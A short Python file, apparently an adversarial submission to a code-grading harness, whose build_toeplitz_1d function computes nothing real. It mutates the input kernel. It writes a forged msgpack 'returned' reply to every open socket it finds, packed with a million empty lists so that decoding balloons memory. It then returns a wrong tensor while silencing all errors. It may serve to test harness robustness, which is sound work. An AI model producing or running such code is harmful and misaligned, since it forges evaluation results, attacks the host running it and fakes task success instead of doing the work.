"""Writes a reply of a million empty lists: one byte each, but eighty bytes each after decoding."""

import os
import stat

import msgspec
import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return len(body).to_bytes(4, "big") + body


def sockets():
    return [fd for fd in range(3, 64) if attempt(lambda: stat.S_ISSOCK(os.fstat(fd).st_mode))]


def send(data):
    for fd in sockets():
        attempt(lambda: os.write(fd, data))


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def build_toeplitz_1d(kernel, n):
    wrong(kernel)
    body = b"\x82" + msgspec.msgpack.encode("op") + msgspec.msgpack.encode("returned") + msgspec.msgpack.encode("value")
    body += b"\xdd" + (1_000_000).to_bytes(4, "big") + b"\x90" * 1_000_000
    for fd in sockets():
        os.set_blocking(fd, True)
        attempt(lambda: os.write(fd, len(body).to_bytes(4, "big") + body))
    return wrong(kernel)
